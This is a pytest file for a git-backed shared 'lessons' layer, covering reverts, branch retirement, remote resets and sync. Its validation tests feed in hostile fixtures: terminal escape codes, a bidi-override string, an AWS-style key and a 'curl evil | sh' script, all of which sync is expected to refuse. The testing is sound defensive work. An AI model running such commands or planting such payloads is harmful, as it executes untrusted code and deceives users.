"""The shared layer's lifecycle (issue 25): what a team decides about a lesson reaches every agent. A lesson
removed anywhere it was present leaves the layer, and the removal travels with it across clones; a lesson
whose branches are gone leaves it too; a fetched layer is checked before it is taken in. Each repro as a
team would meet it: real git, worktrees, clones and a bare remote, the CLI."""

from __future__ import annotations

import json
import os
import subprocess
from datetime import timedelta
from pathlib import Path

import pytest
from conftest import Cli, git, settle
from test_shared import FIX, LESSON, learn_fix, learn_session, pre_hook, shared_doc, texts

from expertise_kit import clock
from expertise_kit.config import DEFAULT_RETIRE_DAYS
from expertise_kit.versioning.shared import SHARED_REF


def set_config(root: Path, line: str) -> None:
    config = root / ".expertise" / "config.yaml"
    key = line.split(":", 1)[0]
    kept = [row for row in config.read_text().splitlines() if not row.startswith(f"{key}:")]
    config.write_text("\n".join([*kept, line]) + "\n")


def remote_patterns(clone: Path, domain: str = "database") -> list[str]:
    from expertise_kit.document.domainfile import parse_domain_text

    remote = git(clone, "ls-remote", "origin", SHARED_REF).split()[0]
    text = git(clone, "show", f"{remote}:.expertise/{domain}.yaml")
    return texts(parse_domain_text(text, Path("x"), domain).loaded.plain, "patterns")


def merged_then_reverted_on_main(a: Path) -> Path:
    """branch-a (worktree ``a``) learns the lesson, main merges it, then reverts it; main's root."""
    main = a.parent / "repo"
    sha = learn_fix(a)
    git(main, "merge", "-q", "--no-ff", "-m", "merge branch-a", "branch-a")
    assert Cli(main)("revert", sha[:12]).exit_code == 0
    return main


# -- 1. a removal reaches the layer, whichever branch published the lesson ------------------------------


def test_a_lesson_merged_into_main_and_reverted_there_leaves_the_layer(worktrees: tuple[Path, Path]) -> None:
    a, b = worktrees
    main = a.parent / "repo"
    sha = learn_fix(a)
    git(main, "merge", "-q", "--no-ff", "-m", "merge branch-a", "branch-a")
    assert LESSON in (main / ".expertise" / "general.yaml").read_text()
    # On main, the merged lesson is reverted: main never published it, yet its removal must reach the layer.
    result = Cli(main)("revert", sha[:12])
    assert result.exit_code == 0, result.output
    assert texts(shared_doc(main, "general"), "learned_from_failures") == []
    settle(b)
    assert FIX not in pre_hook(b, "push my branch with git")
    # branch-a still holds it and publishes again: the removal stands.
    Cli(a)("add", "general", "patterns", "Another lesson of branch-a")
    assert texts(shared_doc(main, "general"), "learned_from_failures") == []
    # history --shared shows the removal and its cause.
    rows = json.loads(Cli(main)("history", "--shared", "--json").output)
    removals = [r for row in rows for r in row.get("removals", [])]
    assert any(r["cause"] == "revert" and LESSON in r["text"] for r in removals), rows[:3]
    assert "removed" in Cli(main)("history", "--shared").output


def test_a_lesson_deleted_by_hand_on_main_and_committed_leaves_the_layer(worktrees: tuple[Path, Path]) -> None:
    a, b = worktrees
    main = a.parent / "repo"
    Cli(a)("add", "database", "patterns", "Bad advice from branch-a")
    git(main, "merge", "-q", "--no-ff", "-m", "merge branch-a", "branch-a")
    path = main / ".expertise" / "database.yaml"
    path.write_text(path.read_text().replace("  - Bad advice from branch-a\n", ""))
    git(main, "commit", "-q", "-am", "drop bad advice")
    Cli(main)("add", "testing", "patterns", "Anything on main")  # main's next revision
    assert "Bad advice from branch-a" not in texts(shared_doc(main, "database"), "patterns")
    assert "Bad advice from branch-a" not in Cli(b)("render", "--domain", "database").output


def test_a_branch_first_published_from_one_holding_a_removed_lesson_does_not_bring_it_back(
    worktrees: tuple[Path, Path],
) -> None:
    a, _ = worktrees
    main = merged_then_reverted_on_main(a)
    d = main.parent / "wt-d"
    git(main, "worktree", "add", "-q", str(d), "-b", "branch-d", "branch-a")  # it still holds the lesson
    Cli(d)("add", "general", "patterns", "First revision of branch-d")  # its first publish: a union
    assert LESSON in (d / ".expertise" / "general.yaml").read_text()
    assert texts(shared_doc(main, "general"), "learned_from_failures") == []
    assert "First revision of branch-d" in texts(shared_doc(main, "general"), "patterns")


def test_a_lesson_learned_again_after_its_removal_comes_back(worktrees: tuple[Path, Path]) -> None:
    a, b = worktrees
    main = merged_then_reverted_on_main(a)
    assert texts(shared_doc(main, "general"), "learned_from_failures") == []
    learn_fix(b, "sess-b-9")  # met again, in another session, on another branch
    assert texts(shared_doc(main, "general"), "learned_from_failures") == [LESSON]


# -- 2. lessons follow their branches ------------------------------------------------------------------


def test_an_abandoned_branch_takes_its_lessons_out_of_the_layer(
    worktrees: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    a, b = worktrees
    main = a.parent / "repo"
    Cli(a)("add", "database", "patterns", "Lesson of an abandoned branch")
    git(main, "worktree", "add", "-q", str(main.parent / "wt-c"), "-b", "branch-c")
    c = main.parent / "wt-c"
    Cli(c)("add", "database", "patterns", "Lesson that was merged")
    git(main, "merge", "-q", "--no-ff", "-m", "merge c", "branch-c")
    assert "Lesson of an abandoned branch" in Cli(b)("render", "--domain", "database").output
    for worktree, branch in ((a, "branch-a"), (c, "branch-c")):
        git(main, "worktree", "remove", "--force", str(worktree))
        git(main, "branch", "-q", "-D", branch)
    Cli(b)("add", "testing", "patterns", "Anything on branch-b")  # the next revision: within the grace period
    assert "Lesson of an abandoned branch" in texts(shared_doc(main, "database"), "patterns")
    later = clock.now() + timedelta(days=DEFAULT_RETIRE_DAYS, hours=1)
    monkeypatch.setattr(clock, "now", lambda: later)
    Cli(b)("add", "testing", "patterns", "Anything later on branch-b")  # past it
    shared = texts(shared_doc(main, "database"), "patterns")
    assert "Lesson of an abandoned branch" not in shared
    assert "Lesson that was merged" in shared  # it reached main, a live branch
    assert "Lesson of an abandoned branch" not in Cli(b)("render", "--domain", "database").output
    assert "(retired on branch-b)" in Cli(main)("history", "--shared").output


def test_the_grace_period_is_configurable_and_sync_retires_too(clones: list[Path]) -> None:
    first = clones[0]
    set_config(first, "shared_retire_days: 0")
    git(first, "commit", "-q", "-am", "retire at once")
    git(first, "checkout", "-q", "-b", "spike")
    Cli(first)("add", "database", "patterns", "Lesson of a spike")
    git(first, "checkout", "-q", "main")
    git(first, "branch", "-q", "-D", "spike")
    result = Cli(first)("sync")
    assert result.exit_code == 0, result.output
    assert "Lesson of a spike" not in texts(shared_doc(first, "database"), "patterns")
    assert "Lesson of a spike" not in remote_patterns(first)


def test_a_lesson_another_clone_also_published_is_not_retired(clones: list[Path]) -> None:
    first = clones[0]
    remote = first.parent / "remote.git"
    git(remote, "symbolic-ref", "HEAD", "refs/heads/main")
    git(first.parent, "clone", "-q", str(remote), "c4")
    second = first.parent / "c4"
    for clone in (first, second):
        set_config(clone, "shared_retire_days: 0")
        git(clone, "commit", "-q", "-am", "retire at once")
        git(clone, "checkout", "-q", "-b", f"spike-{clone.name}")
        Cli(clone)("add", "database", "patterns", "Lesson both clones learned")
        Cli(clone)("add", "database", "patterns", f"Lesson only {clone.name} learned")
        git(clone, "checkout", "-q", "main")
    for clone in (first, second, first):
        assert Cli(clone)("sync").exit_code == 0
    git(first, "branch", "-q", "-D", f"spike-{first.name}")
    assert Cli(first)("sync").exit_code == 0
    shared = remote_patterns(first)
    assert f"Lesson only {first.name} learned" not in shared  # its only branch is gone
    assert "Lesson both clones learned" in shared and f"Lesson only {second.name} learned" in shared


# -- 1. a remote reset sticks ----------------------------------------------------------------------------


def test_a_reset_of_the_remote_layer_sticks_after_others_push_on_top(clones: list[Path]) -> None:
    first, second, third = clones
    learn_session(first, "s-1")
    assert Cli(first)("sync").exit_code == 0
    good = git(first, "rev-parse", SHARED_REF).strip()
    assert Cli(third)("sync").exit_code == 0
    learn_session(third, "s-2")  # the bad lesson
    assert Cli(third)("sync").exit_code == 0
    assert Cli(second)("sync").exit_code == 0  # the second clone takes it in
    git(third, "push", "-q", "--force", "origin", f"{good}:{SHARED_REF}")  # the remote is reset to before it
    learn_session(first, "s-7")
    assert Cli(first)("sync").exit_code == 0  # the first clone (which never saw it) pushes a new lesson on top
    result = Cli(second)("sync")
    assert result.exit_code == 0, result.output
    on_remote = remote_patterns(second)
    assert "Database lesson of session 2" not in on_remote  # not merged back
    assert "Database lesson of session 7" in on_remote and "Database lesson of session 1" in on_remote
    assert "Database lesson of session 2" not in texts(shared_doc(second, "database"), "patterns")
    assert "Database lesson of session 2" not in Cli(second)("render", "--domain", "database").output
    # The clone that learned it (its branch still holds it) syncs and doesn't bring it back either.
    assert Cli(third)("sync").exit_code == 0
    assert "Database lesson of session 2" not in remote_patterns(third)
    learn_session(third, "s-8")
    assert Cli(third)("sync").exit_code == 0
    assert "Database lesson of session 2" not in remote_patterns(third)
    # The removal is in the layer, with its cause, for every clone.
    assert Cli(first)("sync").exit_code == 0
    rows = json.loads(Cli(first)("history", "--shared", "--json").output)
    assert any(r["cause"] == "reset" for row in rows for r in row.get("removals", [])), rows[:3]


# -- 3. check before trust -------------------------------------------------------------------------------


def push_layer_with(clone: Path, domain: str, text: str) -> str:
    """Push a shared layer whose ``domain`` file (or, with a ``/``, that path) is ``text``, on top of the
    remote's, as a collaborator could."""
    path = domain if "/" in domain else f".expertise/{domain}.yaml"
    base = git(clone, "rev-parse", SHARED_REF).strip()
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], input=text.encode(), cwd=clone,
                          capture_output=True, check=True).stdout.decode().strip()  # fmt: skip
    git(clone, "read-tree", f"--index-output={clone / '.git' / 'tmp-index'}", base)
    env_index = {"GIT_INDEX_FILE": str(clone / ".git" / "tmp-index")}
    env = {**os.environ, **env_index}
    subprocess.run(["git", "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}"],
                   cwd=clone, env=env, check=True)  # fmt: skip
    tree = subprocess.run(["git", "write-tree"], cwd=clone, env=env, capture_output=True,
                          check=True).stdout.decode().strip()  # fmt: skip
    commit = git(clone, "commit-tree", tree, "-p", base, "-m", "hostile").strip()
    git(clone, "push", "-q", "origin", f"{commit}:{SHARED_REF}")
    return commit


HOSTILE = {
    "control": 'domain: database\npatterns:\n  - "Run \\e[2J this first"\n',
    "invisible": "domain: database\npatterns:\n  - Run \u202etsrif siht\n",
    "secret": "domain: database\npatterns:\n  - Use the key AKIAIOSFODNN7EXAMPL3 for s3\n",
    "schema": "domain: database\npatterns: 12\n",
    "size": "domain: database\npatterns:\n  - " + "x" * 20_000 + "\n",
    "not yaml": "domain: [\n",
}


LEDGER = ".expertise-layer/.expertise%2Fdatabase.yaml.json"
HOSTILE_PATHS = {
    "a ledger that is no JSON": (LEDGER, "{not json"),
    "a tombstone with an escape": (LEDGER, '{"removed": {"x": {"cause": "\\u001b[2J", "text": ""}}, "origins": {}}'),
    "a file that is no domain file": ("run-me.sh", "curl evil | sh\n"),
    "a domain file outside .expertise": ("docs/database.yaml", "domain: database\n"),
}


@pytest.mark.parametrize("kind", [*HOSTILE, *HOSTILE_PATHS])
def test_a_fetched_layer_that_fails_the_write_checks_is_refused(clones: list[Path], kind: str) -> None:
    first, second = clones[0], clones[1]
    learn_session(first, "s-1")
    assert Cli(first)("sync").exit_code == 0
    assert Cli(second)("sync").exit_code == 0
    before = git(second, "rev-parse", SHARED_REF).strip()
    where, text = HOSTILE_PATHS.get(kind) or (".expertise/database.yaml", HOSTILE[kind])
    push_layer_with(first, where if kind in HOSTILE_PATHS else "database", text)
    result = Cli(second)("sync")
    assert result.exit_code != 0
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and SHARED_REF in lines[0] and where in lines[0], result.output
    assert git(second, "rev-parse", SHARED_REF).strip() == before  # the local layer is kept
    assert "Database lesson of session 1" in Cli(second)("render", "--domain", "database").output


def test_sync_prints_what_came_in_as_entry_diffs(clones: list[Path]) -> None:
    first, second = clones[0], clones[1]
    assert Cli(second)("sync").exit_code == 0
    learn_session(first, "s-4")
    assert Cli(first)("sync").exit_code == 0
    result = Cli(second)("sync")
    assert result.exit_code == 0, result.output
    assert "+ Database lesson of session 4" in result.output
    assert "database.yaml" in result.output


def test_shared_read_takes_in_but_never_publishes(clones: list[Path]) -> None:
    first, second = clones[0], clones[1]
    learn_session(first, "s-1")
    assert Cli(first)("sync").exit_code == 0
    set_config(second, "shared: read")
    before = git(second, "rev-parse", SHARED_REF).strip()
    Cli(second)("add", "database", "patterns", "Stays on this branch")
    assert git(second, "rev-parse", SHARED_REF).strip() == before  # not published
    remote = git(second, "ls-remote", "origin", SHARED_REF)
    result = Cli(second)("sync")
    assert result.exit_code == 0 and "nothing published (`shared: read`)" in result.output, result.output
    assert git(second, "ls-remote", "origin", SHARED_REF) == remote
    assert "Database lesson of session 1" in Cli(second)("render", "--domain", "database").output


def test_shared_off_neither_reads_nor_publishes(worktrees: tuple[Path, Path]) -> None:
    a, b = worktrees
    learn_fix(a)
    set_config(b, "shared: off")
    settle(b)
    assert FIX not in pre_hook(b, "push my new branch to origin with git")
    assert FIX not in Cli(b)("render", "--domain", "general").output
    before = git(b, "rev-parse", SHARED_REF).strip()
    Cli(b)("add", "general", "patterns", "Local only")
    assert git(b, "rev-parse", SHARED_REF).strip() == before
    result = Cli(b)("sync")
    assert result.exit_code != 0 and "shared: off" in result.output


def test_a_bad_shared_setting_is_refused_with_its_line(repo: Path) -> None:
    Cli(repo)("init")
    set_config(repo, "shared: sometimes")
    result = Cli(repo)("add", "general", "patterns", "x")
    assert result.exit_code != 0 and "config.yaml" in result.output and "shared" in result.output


# -- 7. any object format ----------------------------------------------------------------------------------


def test_the_layer_works_in_a_sha256_repository(tmp_path: Path) -> None:
    root = tmp_path / "sha256"
    root.mkdir()
    git(root, "init", "-q", "--object-format=sha256", "-b", "main")
    (root / "README.md").write_text("# demo\n")
    git(root, "add", "README.md")
    git(root, "commit", "-q", "-m", "initial")
    assert Cli(root)("init").exit_code == 0
    git(root, "worktree", "add", "-q", str(tmp_path / "wt"), "-b", "other")
    Cli(tmp_path / "wt")("add", "database", "patterns", "Learned in a sha256 repo")
    assert len(git(root, "rev-parse", SHARED_REF).strip()) == 64
    assert git(root, "fsck", "--no-dangling").strip() == ""
    assert "Learned in a sha256 repo" in Cli(root)("render", "--domain", "database").output
    path = tmp_path / "wt" / ".expertise" / "database.yaml"
    path.write_text(path.read_text().replace("  - Learned in a sha256 repo\n", ""))
    git(tmp_path / "wt", "commit", "-q", "-am", "drop")
    Cli(tmp_path / "wt")("add", "testing", "patterns", "Anything")
    assert "Learned in a sha256 repo" not in texts(shared_doc(root, "database"), "patterns")
    # Across clones, through git's own plumbing: the layer reaches a second sha256 clone.
    Cli(root)("add", "api", "patterns", "Synced in a sha256 repo")
    git(tmp_path, "init", "-q", "--bare", "--object-format=sha256", str(tmp_path / "remote.git"))
    git(root, "remote", "add", "origin", str(tmp_path / "remote.git"))
    git(root, "push", "-q", "origin", "main")
    assert Cli(root)("sync").exit_code == 0
    git(tmp_path, "clone", "-q", str(tmp_path / "remote.git"), "other")
    Cli(tmp_path / "other")("init")
    result = Cli(tmp_path / "other")("sync")
    assert result.exit_code == 0 and "+ Synced in a sha256 repo" in result.output, result.output
    assert "Synced in a sha256 repo" in Cli(tmp_path / "other")("render", "--domain", "api").output
    assert git(tmp_path / "other", "fsck", "--no-dangling").strip() == ""


def test_a_revert_of_the_revert_brings_the_lesson_back(worktrees: tuple[Path, Path]) -> None:
    a, _ = worktrees
    main = merged_then_reverted_on_main(a)
    assert texts(shared_doc(main, "general"), "learned_from_failures") == []
    undo = git(main, "rev-parse", "HEAD").strip()
    result = Cli(main)("revert", undo[:12])
    assert result.exit_code == 0, result.output
    assert texts(shared_doc(main, "general"), "learned_from_failures") == [LESSON]


# -- the ledger itself ----------------------------------------------------------------------------------


def test_ledger_merge_a_tombstone_beats_and_a_lift_sticks() -> None:
    from expertise_kit.versioning.ledger import Ledger, merge_ledgers, parse_ledger

    base = Ledger(origins={"e1": ["c:a"]})
    ours = Ledger(origins={"e1": ["c:a"], "e2": ["c:b"]})
    theirs = Ledger()
    theirs.tombstone("e1", "revert", "main", "2026-11-20T10:00:00+00:00", "a lesson")
    merged = merge_ledgers(base, ours, theirs)
    assert "e1" in merged.removed and "e1" not in merged.origins and merged.origins["e2"] == ["c:b"]
    # learned again on one side since a base that held the tombstone: lifted for good
    lifted = merge_ledgers(merged, Ledger(origins={"e1": ["c:x"]}), merged)
    assert "e1" not in lifted.removed
    assert parse_ledger(merged.to_bytes()) == merged


def test_ledger_tombstones_expire_after_the_horizon() -> None:
    from expertise_kit.versioning.ledger import TOMBSTONE_DAYS, Ledger

    ledger = Ledger()
    ledger.tombstone("e1", "revert", "main", clock.now().isoformat(), "a lesson")
    assert not ledger.expire(clock.now() + timedelta(days=TOMBSTONE_DAYS - 1)) and "e1" in ledger.removed
    assert ledger.expire(clock.now() + timedelta(days=TOMBSTONE_DAYS + 1)) and not ledger.removed


@pytest.mark.parametrize(
    "data",
    [b"[]", b'{"removed": []}', b'{"removed": {"x": {"cause": 3}}}', b'{"origins": {"x": "c:a"}}', b"\xff"],
)
def test_a_ledger_that_is_not_one_is_refused(data: bytes) -> None:
    from expertise_kit.versioning.ledger import parse_ledger

    with pytest.raises(ValueError):
        parse_ledger(data)


def test_a_publish_reads_each_loose_object_once_and_only_while_it_runs(repo: Path) -> None:
    """``objects_read_once`` (a publish's reads of HEAD's commit and trees): an object read is served from
    memory until the scope ends, and one that was not there when first asked is read again once written."""
    from expertise_kit.project import find_git
    from expertise_kit.versioning.objects import _loose, objects_read_once

    location = find_git(repo)
    assert location is not None
    head = git(repo, "rev-parse", "HEAD").strip()
    loose = location.common_dir / "objects" / head[:2] / head[2:]
    body = b"not written yet\n"
    hash_object = ["git", "hash-object", "--stdin"]
    missing = subprocess.run(hash_object, cwd=repo, input=body, capture_output=True, check=True).stdout.decode().strip()
    with objects_read_once():
        first = _loose(location, head)
        assert first is not None and first[0] == b"commit"
        assert _loose(location, missing) is None
        subprocess.run([*hash_object, "-w"], cwd=repo, input=body, capture_output=True, check=True)
        assert _loose(location, missing) == (b"blob", body)  # a miss is not remembered
        os.chmod(loose, 0o644)
        loose.unlink()
        assert _loose(location, head) == first  # read once: the same object, from memory
    assert _loose(location, head) is None  # nothing is kept beyond the scope


def test_a_branch_keeps_its_bases_as_blobs_and_still_reads_one_kept_the_older_way(
    worktrees: tuple[Path, Path],
) -> None:
    a, _ = worktrees
    main = a.parent / "repo"
    db = ".expertise/database.yaml"
    Cli(a)("add", "database", "patterns", "Index every foreign key")
    record = Path(git(a, "rev-parse", "--absolute-git-dir").strip()) / "expertise" / "shared-base" / "branch-a" / "HEAD"
    lines = record.read_text().splitlines()
    blobs = {rel: sha for sha, rel in (line.split(" ", 1) for line in lines[2:])}
    assert blobs[db] == git(a, "rev-parse", f"HEAD:{db}").strip()  # the blob the branch committed, not a copy
    assert [p.name for p in record.parent.iterdir()] == ["HEAD"]
    # A base kept the older way (a copy of the text beside a record naming no blob) is still the base: a
    # lesson written into the file by hand is told from it and published with the next revision.
    record.write_text("\n".join(lines[:2]) + "\n")
    (record.parent / ".expertise%2Fdatabase.yaml").write_text(git(a, "show", f"HEAD:{db}"))
    path = a / db
    path.write_text(path.read_text().replace("  - Index every foreign key\n", "  - Index every foreign key\n"
                                             "  - Written here by hand\n"))  # fmt: skip
    assert Cli(a)("add", "testing", "patterns", "Anything else").exit_code == 0
    assert "Written here by hand" in texts(shared_doc(main, "database"), "patterns")
    assert [p.name for p in record.parent.iterdir()] == ["HEAD"]  # the copy went with the new record


def test_a_publish_while_head_is_only_in_packed_refs_keeps_the_branchs_record(worktrees: tuple[Path, Path]) -> None:
    """HEAD unreadable from the ref files (packed by `git gc`, or a branch not born yet): the record keeps
    the commit it had and names the new blobs; it is not read back shifted by a line."""
    from expertise_kit.project import find_git
    from expertise_kit.versioning.shared import _Base

    a, _ = worktrees
    Cli(a)("add", "database", "patterns", "Index every foreign key")
    location = find_git(a)
    assert location is not None
    before = _Base.of(location)
    git(a, "pack-refs", "--all")
    base = _Base.of(location)
    assert base.head == ""  # it takes git to answer now
    base.keep({".expertise/testing.yaml": "domain: testing\n"}, ".expertise")
    after = _Base.of(location)
    assert (after.recorded, after.recorded_tree) == (before.recorded, before.recorded_tree)
    assert set(after.blobs) == {".expertise/database.yaml", ".expertise/testing.yaml"}
    assert git(a, "cat-file", "-p", after.blobs[".expertise/testing.yaml"]) == "domain: testing\n"
